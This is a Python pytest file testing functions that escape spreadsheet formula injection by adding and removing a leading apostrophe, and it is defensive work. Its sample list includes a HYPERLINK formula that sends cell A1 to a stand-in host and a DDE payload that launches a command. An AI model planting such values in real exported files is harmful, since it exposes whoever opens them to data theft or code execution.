"""No text of ours runs as a formula in a spreadsheet, and each can be told again."""

import pytest

from aether_core.vector.spreadsheet_text import with_formula, without_formula

FORMULAS = [
    '=HYPERLINK("http://x.example/"&A1,"more")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "-",
    "+49 30 1234",
    "'=1+1",
    "''@x",
]
HARMLESS = ["", "a=b", "-5", "+3.5", "-.5e-3", "'s-Gravenhage", "Café +", 3, -4.5, None, True]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe_and_loses_it_again(text: str) -> None:
    safe = without_formula(text)
    assert safe == f"'{text}"
    assert with_formula(safe) == text


@pytest.mark.parametrize("cell", HARMLESS)
def test_everything_else_stays(cell: object) -> None:
    assert without_formula(cell) is cell
    assert with_formula(cell) is cell
